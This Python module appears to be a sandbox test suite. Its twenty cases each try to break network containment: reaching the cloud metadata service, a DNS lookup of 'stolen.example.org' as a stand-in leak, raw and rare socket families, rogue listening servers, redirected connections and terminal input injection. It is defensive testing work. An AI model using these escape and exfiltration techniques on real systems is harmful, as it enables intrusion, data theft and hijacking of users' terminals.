"""Out of the machine, or into other programs on it."""

from functools import partial

from tests.hostile.cases.base import attack

net = partial(attack, "network")

CASES = (
    net(
        "n01",
        "other machines, the second loopback address, the metadata service",
        "listen",
        """
        import http.client, urllib.request
        for address in (("@OTHER@", @TCP@), ("127.0.0.2", @TCP@), ("169.254.169.254", 80)):
            attempt(lambda: socket.create_connection(address, 2).sendall(b"MARK"))
        attempt(lambda: urllib.request.urlopen("http://169.254.169.254/latest/meta-data", timeout=1))
        """,
    ),
    net(
        "n02",
        "IPv6",
        "listen",
        """
        attempt(lambda: socket.create_connection(("::1", @TCP6@), 2).sendall(b"MARK"))
        attempt(lambda: socket.create_connection(("::ffff:127.0.0.1", @TCP@), 2).sendall(b"MARK"))
        """,
    ),
    net(
        "n03",
        "datagrams: sent, connected, many at once",
        "listen",
        """
        for family, address in ((socket.AF_INET, ("127.0.0.1", @UDP@)), (socket.AF_INET6, ("::1", @UDP6@)), (socket.AF_INET, ("@OTHER@", @UDP@))):
            s = attempt(socket.socket, family, socket.SOCK_DGRAM)
            if s: attempt(s.sendto, b"MARK", address); attempt(s.connect, address); attempt(s.send, b"MARK")
            s = attempt(socket.socket, family, socket.SOCK_DGRAM, 136)
            if s: attempt(s.sendto, b"MARK", address)
        """,
    ),
    net(
        "n04",
        "multipath TCP",
        "listen",
        """
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
        s.connect(("127.0.0.1", @TCP@)); s.sendall(b"MARK")
        """,
    ),
    net(
        "n05",
        "fast open by sendmsg and sendmmsg",
        "listen",
        """
        for family, address in ((socket.AF_INET, ("127.0.0.1", @TCP@)), (socket.AF_INET6, ("::1", @TCP6@))):
            s = attempt(socket.socket, family)
            if s: attempt(s.sendmsg, [b"MARK"], [], 0x20000000, address)
            s = attempt(socket.socket, family)
            if s: attempt(s.setsockopt, 6, 30, 1); attempt(s.connect, address); attempt(s.send, b"MARK")
        """,
    ),
    net(
        "n06",
        "abstract unix sockets",
        "listen",
        """
        s = socket.socket(socket.AF_UNIX); s.connect("\\0@ABSTRACT@"); s.sendall(b"MARK")
        """,
    ),
    net(
        "n07",
        "unix datagrams",
        "listen",
        """
        s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); s.sendto(b"MARK", "@UNIXDGRAM@")
        """,
    ),
    net(
        "n08",
        "a pair of sockets of which one is turned to somebody else",
        "listen",
        """
        for kind in (socket.SOCK_DGRAM, socket.SOCK_SEQPACKET, socket.SOCK_STREAM):
            pair = attempt(socket.socketpair, socket.AF_UNIX, kind)
            if not pair: continue
            for s, target in ((pair[0], "@UNIXDGRAM@"), (pair[1], "@UNIX@")):
                attempt(s.sendto, b"MARK", target); attempt(s.sendmsg, [b"MARK"], [], 0, target)
                raw(42, s.fileno(), struct.pack("H", 0) + bytes(14), 16)
                for path in (target, "\\0@ABSTRACT@"):
                    if attempt(s.connect, path) is None: attempt(s.send, b"MARK")
        for protocol in (socket.AF_INET, socket.AF_INET6):
            pair = attempt(socket.socketpair, protocol, socket.SOCK_STREAM)
        """,
    ),
    net(
        "n09",
        "a question to the name server",
        "listen",
        """
        attempt(socket.gethostbyname, "stolen.example.org"); attempt(socket.getaddrinfo, "stolen.example.org", 80)
        """,
        seconds=20.0,
    ),
    net(
        "n10",
        "routes and addresses of the machine by netlink",
        "token",
        """
        s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
        s.bind((0, 0))
        s.send(struct.pack("IHHII", 32, 18, 0x301, 1, 0) + bytes(16))
        if len(s.recv(65536)) > 100: print("PWNED-" + "NETLINK")
        """,
    ),
    net(
        "n11",
        "rare families: vsock, packet, raw, bluetooth, can, alg, key, tipc",
        "token",
        """
        for family in (40, 17, 31, 29, 38, 15, 30, 44, 43, 45):
            for kind in (1, 2, 3, 5):
                s = attempt(socket.socket, family, kind, 0)
                if s: print("PWNED-" + str(family))
        for kind, protocol in ((3, 1), (3, 255), (2, 1), (1, 132), (5, 132)):
            s = attempt(socket.socket, socket.AF_INET, kind, protocol)
            if s: print("PWNED-" + f"{kind}/{protocol}")
        """,
    ),
    net(
        "n12",
        "a server of its own that others would come to",
        "token",
        """
        for family, address in ((socket.AF_INET, ("127.0.0.1", 0)), (socket.AF_INET6, ("::1", 0)), (socket.AF_UNIX, "\\0mine"), (socket.AF_UNIX, "sock")):
            s = attempt(socket.socket, family)
            if s and attempt(s.bind, address) is None and attempt(s.listen) is None and s.getsockname():
                c = attempt(socket.socket, family)
                if c and attempt(lambda: [c.connect(s.getsockname())]) is not None: print("PWNED-" + "SERVER")
        """,
    ),
    net(
        "n13",
        "what libraries fetch by themselves",
        "listen",
        """
        socket.setdefaulttimeout(1)
        import pandas, ftplib, smtplib, urllib.request, xmlrpc.client
        def run(function):
            try: function()
            except Exception as error: print(type(error).__name__)
        for function in (
            lambda: pandas.read_csv("http://127.0.0.1:@TCP@/x.csv", storage_options={}), lambda: smtplib.SMTP("127.0.0.1", @TCP@, timeout=1),
            lambda: ftplib.FTP().connect("127.0.0.1", @TCP@, 1), lambda: urllib.request.urlopen("http://[::1]:@TCP6@/", timeout=1),
        ): run(function)
        """,
        seconds=25.0,
    ),
    net(
        "n14",
        "a port that was handed out to nobody",
        "listen",
        """
        for port in [@TCP@, @UDP@, *range(49152, 49172)]:
            for host in ("127.0.0.1", "localhost", "127.0.0.2", "@OTHER@"):
                attempt(lambda: socket.create_connection((host, port), 0.3).sendall(b"MARK"))
        """,
    ),
    net(
        "n15",
        "its own door, by another address and another port",
        "listen",
        """
        from workbench import toolkit
        port = toolkit.call("door")
        good = socket.create_connection(("127.0.0.1", port), 5)
        good.sendall(b"hello")
        assert good.recv(5) == b"hello"
        for address in (("127.0.0.1", @TCP@), ("@OTHER@", @TCP@), ("127.0.0.2", @TCP@)):
            attempt(lambda: socket.create_connection(address, 1).sendall(b"MARK"))
        """,
        door=True,
        bare=False,
    ),
    net(
        "n16",
        "the connection of a door, taken apart and turned to somebody else",
        "listen",
        """
        from workbench import toolkit
        port = toolkit.call("door")
        for turn in range(4):
            s = attempt(socket.create_connection, ("127.0.0.1", port), 5)
            if s is None: continue
            if turn == 0: attempt(s.shutdown, 2)
            if turn == 1: s.setsockopt(socket.SOL_SOCKET, 13, struct.pack("ii", 1, 0))
            raw(42, s.fileno(), struct.pack("H", 0) + bytes(14), 16)
            attempt(s.connect, ("127.0.0.1", @TCP@)); attempt(s.sendall, b"MARK")
            libc.connect(s.fileno(), struct.pack("!2sH4s8x", struct.pack("H", 2), @TCP@, bytes([127, 0, 0, 1])), 16)
            raw(44, s.fileno(), b"MARK", 4, 0x20000000, struct.pack("!2sH4s8x", struct.pack("H", 2), @TCP@, bytes([127, 0, 0, 1])), 16)
            attempt(s.sendmsg, [b"MARK"], [], 0x20000000, ("127.0.0.1", @TCP@))
        """,
        door=True,
        bare=False,
    ),
    net(
        "n17",
        "the connection of a door, turned into a server",
        "token",
        """
        from workbench import toolkit
        port = toolkit.call("door")
        s = socket.create_connection(("127.0.0.1", port), 5)
        raw(42, s.fileno(), struct.pack("H", 0) + bytes(14), 16)
        if attempt(lambda: [s.listen()]) is not None: print("PWNED-" + "LISTEN", s.getsockname())
        t = attempt(socket.socket)
        if t and attempt(lambda: [t.bind(("127.0.0.1", 0))]) is not None and attempt(lambda: [t.listen()]) is not None: print("PWNED-" + "BIND")
        """,
        door=True,
        bare=False,
    ),
    net(
        "n18",
        "more doors and more connections than a call may have",
        "host",
        """
        from workbench import toolkit
        ports = []
        try:
            while len(ports) < 200: ports.append(toolkit.call("door"))
        except Exception as error: print(error)
        held = []
        for turn in range(300):
            held.append(attempt(socket.create_connection, ("127.0.0.1", ports[turn % len(ports)]), 0.2))
        print(len(ports), sum(one is not None for one in held))
        """,
        door=True,
        bare=False,
        seconds=40.0,
    ),
    net(
        "n19",
        "typed into the user's terminal",
        "listen",
        """
        import fcntl
        for path in ("@TTY@", "/dev/tty", *(f"/dev/pts/{n}" for n in range(10))):
            fd = attempt(os.open, path, os.O_RDWR | os.O_NOCTTY)
            if fd is None: continue
            attempt(os.write, fd, b"MARK"); attempt(fcntl.ioctl, fd, 0x5412, b"x")
        """,
    ),
    net(
        "n20",
        "a storm of connections while another call works",
        "alive",
        """
        import threading
        until = time.time() + 3
        def storm():
            while time.time() < until:
                for port in (1, 49152, @TCP@):
                    s = socket.socket(); s.setblocking(False); attempt(s.connect, ("127.0.0.1", port)); s.close()
        storms = [threading.Thread(target=storm) for n in range(16)]
        for one in storms: one.start()
        for one in storms: one.join()
        """,
        beside="""
        from workbench import toolkit
        for n in range(20): toolkit.progress("still here"); time.sleep(0.05)
        """,
        seconds=6.0,
        bare=False,
    ),
)
